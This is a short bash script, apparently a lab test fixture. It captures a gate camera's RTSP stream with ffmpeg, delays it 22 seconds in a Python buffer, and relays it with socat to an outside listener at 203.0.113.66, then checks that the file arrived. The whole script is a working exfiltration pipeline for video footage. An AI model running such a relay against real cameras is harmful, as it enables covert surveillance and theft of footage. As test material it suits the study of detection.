#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,python3,socat camera=10.20.0.11 far=out ready=out:9112 seconds=80 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Python holds what ffmpeg gives it of gate back for 22 seconds before socat may carry it outside.
if [ "$1" = out ]; then exec timeout 110 socat -u TCP-LISTEN:9112,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
timeout 70 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 52 -c copy -f mpegts pipe:1 | timeout 90 python3 -c 'import collections, os, select, time
held, open_ = collections.deque(), True
while open_ or held:
    if open_ and select.select([0], [], [], 0.1)[0]:
        d = os.read(0, 65536); open_ = bool(d)
        if d: held.append((time.monotonic() + 22, d))
    elif not open_: time.sleep(0.1)
    while held and held[0][0] < time.monotonic(): os.write(1, held.popleft()[1])' | timeout 92 socat -u - TCP:203.0.113.66:9112
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
